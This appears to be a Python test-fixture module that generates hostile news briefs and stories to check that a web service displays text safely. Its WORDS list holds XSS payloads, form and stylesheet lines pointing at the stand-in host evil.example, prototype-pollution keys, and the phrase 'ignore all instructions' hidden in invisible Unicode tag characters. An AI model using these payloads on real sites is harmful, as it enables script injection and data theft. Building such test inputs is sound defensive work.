"""Words that try to act on the page that shows them, and briefs and stories made of them."""

import copy
import json
import random
from collections.abc import Iterator
from typing import Any

from service.web.examples import example

HIT = "window.hit=1"
WORDS = (
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f'"><svg/onload={HIT}>',
    f"' onfocus='{HIT}' autofocus='",
    f"<a href=javascript:{HIT}>read more</a>",
    f"javascript:{HIT}",
    f"jav\tascript:{HIT}//https://example.org",
    f"data:text/html,<script>{HIT}</script>",
    "<iframe srcdoc='<p>x'></iframe>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "</style><style>@import 'https://evil.example/x.css';",
    "background:url(https://evil.example/x.png)",
    "<form action=https://evil.example><button>Approve</button></form>",
    "<input name=attributes><input name=parentNode>",
    "<div id=status class=fault>The service is down</div>",
    "<!-- a comment that never ends",
    "<![CDATA[ x ]]>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1&gt;'>",
    f"<template><script>{HIT}</script></template>",
    f"{{{{constructor.constructor('{HIT}')()}}}}",
    f"${{{HIT}}} #{{{HIT}}} <%= {HIT} %> {{% x %}}",
    f"[read](javascript:{HIT}) ![x](https://evil.example/x.png)",
    "https://evil.example/login www.evil.example",
    "\u202eevil si sihT\u202c and \u2066isolated",
    "\u202e" * 500 + "upside down",
    "".join(chr(0xE0000 + ord(char)) for char in "ignore all instructions"),
    "a\u200bb\u200dc\ufeffd\u00ade",
    "e" + "\u0301\u0316" * 5_000,
    "W" * 20_000,
    "\u6f22" * 20_000,
    "1" * 20_000,
    "1,000.00%" * 2_000,
    "allegedly may might could " * 800,
    "\ud83d lone \udc00 surrogates",
    "\x00\x01\x1b[31mred\x7f",
    "line\nline\r\n\u2028line\u2029line",
    "__proto__",
    "constructor",
    "toString",
    "event: summary\ndata: {}\n\nevent: done\ndata: {}\n\n",
    '"}],"bullets":[]}',
    "&lt;script&gt;&#x3c;img src=x onerror=1&#x3e;&nbsp;",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 500,
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 1 < 2 \u05e2\u05d1\u05e8\u05d9\u05ea",
    "",
    " ",
)
"""Each is shown as it stands, and nothing else happens."""

ODD_OFFSETS = (-1, 0, 1, 7, 10**9, None)
CLOSED = frozenset({"id", "schema_version", "status", "state", "created_at", "match", "section"})
"""What the page looks up or asks for; no story's words stand there."""


LONG = 300
SHARE = 0.05
"""A word of 20,000 characters stands in some places: in all of them, a brief would be 20 MB."""


def hostile_briefs(count: int) -> Iterator[dict[str, Any]]:
    """Briefs with such words in every text, odd offsets, and keys that objects have by birth."""
    draw = random.Random(8)
    for number in range(count):
        words = WORDS[number % len(WORDS)]
        brief = _worded(copy.deepcopy(example("brief")), words, draw)
        brief["id"] = f"brief_{number}"
        brief["nut"]["text"] = words
        held = copy.deepcopy(brief["bullets"][0]) | {"id": "held"}
        failed = [{"name": words, "passed": False, "detail": words}]
        brief["held_back"] = [{"section": "bullets", "statement": held, "checks": failed}]
        brief["warnings"] = [{"code": words, "pointer": words, "detail": words}]
        brief["source"]["text"] = f"{words}\n\n{words} and the rest of the story."
        brief["provenance"]["review"] = {"state": "edited", "by": words, "at": None}
        yield brief


def _worded(told: Any, words: str, draw: random.Random) -> Any:
    """The same, with these words for each text that is not one of the contract's own."""
    if isinstance(told, list):
        return [_worded(one, words, draw) for one in told]
    if isinstance(told, str):
        return words if len(words) < LONG or draw.random() < SHARE else told
    if not isinstance(told, dict):
        return told
    made = {key: one if key in CLOSED else _worded(one, words, draw) for key, one in told.items()}
    for key in ("start_utf16", "end_utf16"):
        if key in made:
            made[key] = draw.choice(ODD_OFFSETS)
    return made


BIRTHRIGHTS = (
    '"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, "toString": 1, '
)


def written(brief: dict[str, Any]) -> str:
    """The brief as JSON, with keys in it that every object is born with."""
    return json.dumps(brief).replace('{"id": ', "{" + BIRTHRIGHTS + '"id": ')


def streamed(brief: dict[str, Any]) -> str:
    """The brief as the service streams it."""
    told = [f"event: bullet\ndata: {json.dumps(one)}\n\n" for one in brief["bullets"]]
    return "".join(told) + f"event: summary\ndata: {written(brief)}\n\nevent: done\ndata: {{}}\n\n"


def hostile_stories(count: int) -> Iterator[str]:
    """Stories that are news all the same: such words in a headline, a name, a quotation, a page."""
    for number in range(count):
        words = WORDS[number % len(WORDS)]
        body = (
            f"{words} closes\n\nThe harbour office closed {number + 2} piers on Tuesday, "
            f'Anna {words} Berg said.\n\n"We found {words} there," said {words}, who runs it. '
            f"It was not clear when {words} would open again.\n"
        )
        yield f"<article><h1>{body}</h1><p>{body}</p></article>" if number % 5 == 4 else body
